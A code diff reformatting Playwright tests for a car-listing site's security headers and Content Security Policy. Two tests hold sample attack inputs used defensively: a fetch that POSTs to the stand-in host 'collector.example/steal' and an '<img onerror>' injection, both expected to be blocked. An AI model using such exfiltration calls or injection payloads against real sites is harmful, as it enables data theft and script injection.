@@ -12,8 +12,19 @@ const SECURED = {
 
 test('pages, their data, gateway answers and static files carry the security headers and set no cookie', async ({ page, request }) => {
   await page.goto('/car-list');
-  const files = await page.locator('link[rel="modulepreload"], link[rel="stylesheet"]').evaluateAll((els) => els.map((el) => new URL((el as HTMLLinkElement).href).pathname));
-  for (const path of ['/', '/car-list?type=suv', '/car-rank.data', '/cars/no-such-car/99999999', '/nowhere', '/api?url=/car/indexPage', files[0]!, '/favicon.svg']) {
+  const files = await page
+    .locator('link[rel="modulepreload"], link[rel="stylesheet"]')
+    .evaluateAll((els) => els.map((el) => new URL((el as HTMLLinkElement).href).pathname));
+  for (const path of [
+    '/',
+    '/car-list?type=suv',
+    '/car-rank.data',
+    '/cars/no-such-car/99999999',
+    '/nowhere',
+    '/api?url=/car/indexPage',
+    files[0]!,
+    '/favicon.svg',
+  ]) {
     const response = await request.get(path, { maxRedirects: 0 });
     const headers = response.headers();
     expect(headers, path).toMatchObject(SECURED);
@@ -31,7 +42,9 @@ test('pages, their data, gateway answers and static files carry the security hea
   expect(await page.context().cookies()).toEqual([]);
 });
 
-test('every page answer has its own script nonce, also from the edge cache, and third-party hosts only where configured', async ({ request }) => {
+test('every page answer has its own script nonce, also from the edge cache, and third-party hosts only where configured', async ({
+  request,
+}) => {
   const nonces = new Set<string>();
   for (let i = 0; i < 3; i += 1) {
     const response = await request.get('/car-rank');
@@ -56,41 +69,52 @@ test('every page answer has its own script nonce, also from the edge cache, and 
   expect(plain).toContain("frame-src 'none'");
 });
 
-test('on a domain without ads a page cannot send data elsewhere; gtag and ad domains get what they need', { annotation: { type: EXPECTS_CONSOLE_ERRORS, description: 'Content Security Policy' } }, async ({ page, baseURL }) => {
-  await page.goto('/about');
-  const refused = await page.evaluate(
-    () =>
-      new Promise<string | null>((resolve) => {
-        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
-        // what an injected script would do with what it read
-        void fetch('https://collector.example/steal', { method: 'POST', body: 'x' }).catch(() => undefined);
-        setTimeout(() => resolve(null), 2_000);
-      }),
-  );
-  expect(refused).toBe('connect-src');
+test(
+  'on a domain without ads a page cannot send data elsewhere; gtag and ad domains get what they need',
+  { annotation: { type: EXPECTS_CONSOLE_ERRORS, description: 'Content Security Policy' } },
+  async ({ page, baseURL }) => {
+    await page.goto('/about');
+    const refused = await page.evaluate(
+      () =>
+        new Promise<string | null>((resolve) => {
+          document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
+          // what an injected script would do with what it read
+          void fetch('https://collector.example/steal', { method: 'POST', body: 'x' }).catch(() => undefined);
+          setTimeout(() => resolve(null), 2_000);
+        }),
+    );
+    expect(refused).toBe('connect-src');
 
-  const policyOf = async (host: string) => (await page.goto(domainUrl(host, '/about', baseURL)))?.headers()['content-security-policy'] ?? '';
-  const gtag = await policyOf('greenroute.localhost');
-  expect(gtag).toContain("connect-src 'self' https://*.google-analytics.com https://*.analytics.google.com https://*.googletagmanager.com;");
-  expect(gtag).toContain('img-src \'self\' data: https://*.google-analytics.com https://*.googletagmanager.com;');
-  // AdSense reaches hosts no list keeps up with: its domains keep connections and frames open
-  const ads = await policyOf('fastlane.localhost');
-  expect(ads).toContain('https://pagead2.googlesyndication.com');
-  expect(ads).not.toContain('connect-src');
-  expect(ads).not.toContain('frame-src');
-});
+    const policyOf = async (host: string) =>
+      (await page.goto(domainUrl(host, '/about', baseURL)))?.headers()['content-security-policy'] ?? '';
+    const gtag = await policyOf('greenroute.localhost');
+    expect(gtag).toContain(
+      "connect-src 'self' https://*.google-analytics.com https://*.analytics.google.com https://*.googletagmanager.com;",
+    );
+    expect(gtag).toContain("img-src 'self' data: https://*.google-analytics.com https://*.googletagmanager.com;");
+    // AdSense reaches hosts no list keeps up with: its domains keep connections and frames open
+    const ads = await policyOf('fastlane.localhost');
+    expect(ads).toContain('https://pagead2.googlesyndication.com');
+    expect(ads).not.toContain('connect-src');
+    expect(ads).not.toContain('frame-src');
+  },
+);
 
-test('an injected inline script without the nonce does not run', { annotation: { type: EXPECTS_CONSOLE_ERRORS, description: 'Content Security Policy' } }, async ({ page }) => {
-  await page.goto('/about');
-  const blocked = await page.evaluate(
-    () =>
-      new Promise<boolean>((resolve) => {
-        document.addEventListener('securitypolicyviolation', () => resolve(true), { once: true });
-        // parser-inserted markup, as an injection would be: not trusted through 'strict-dynamic'
-        document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.__injected = true">');
-        setTimeout(() => resolve(false), 1_000);
-      }),
-  );
-  expect(blocked).toBe(true);
-  expect(await page.evaluate(() => (window as unknown as { __injected?: boolean }).__injected)).toBeUndefined();
-});
+test(
+  'an injected inline script without the nonce does not run',
+  { annotation: { type: EXPECTS_CONSOLE_ERRORS, description: 'Content Security Policy' } },
+  async ({ page }) => {
+    await page.goto('/about');
+    const blocked = await page.evaluate(
+      () =>
+        new Promise<boolean>((resolve) => {
+          document.addEventListener('securitypolicyviolation', () => resolve(true), { once: true });
+          // parser-inserted markup, as an injection would be: not trusted through 'strict-dynamic'
+          document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.__injected = true">');
+          setTimeout(() => resolve(false), 1_000);
+        }),
+    );
+    expect(blocked).toBe(true);
+    expect(await page.evaluate(() => (window as unknown as { __injected?: boolean }).__injected)).toBeUndefined();
+  },
+);
